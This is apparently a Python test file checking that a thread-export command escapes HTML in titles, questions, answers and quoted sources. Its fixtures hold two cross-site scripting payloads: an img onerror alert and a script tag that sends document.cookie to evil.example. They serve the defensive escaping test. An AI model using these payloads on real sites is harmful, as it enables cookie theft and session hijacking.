"""An exported thread carries no live HTML: what a passage or answer says is shown as written."""

from __future__ import annotations

from pathlib import Path

from app.core.threads.store import StoredSource, ThreadStore, Turn
from tests.helpers import footnotes

IMG = '<img src=x onerror="alert(1)">'
SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>"


def test_export_escapes_html_in_question_answer_and_quotes(tmp_path: Path) -> None:
    data = tmp_path / "data"
    store = ThreadStore(data / "threads.sqlite3")
    try:
        tid = store.create(f"Title {SCRIPT}")
        source = StoredSource(
            1, str(tmp_path / "notes.md"), None, 0, 40, f"The tag {IMG} & more", "h"
        )
        answer = f"It says {SCRIPT} [1]. R&D is fine."
        store.add_turn(tid, Turn(f"What {IMG}?", f"what {IMG}", answer, [source], model="m"))
    finally:
        store.close()
    out = footnotes("--data-dir", str(data), "threads", "export", tid)
    assert out.returncode == 0, out.stderr
    text = out.stdout
    assert "<img" not in text and "<script" not in text, text
    assert "&lt;script&gt;fetch(" in text and "R&amp;D" in text
    assert "&lt;img src=x onerror=" in text.split("[^1]:", 1)[1]  # the quote too
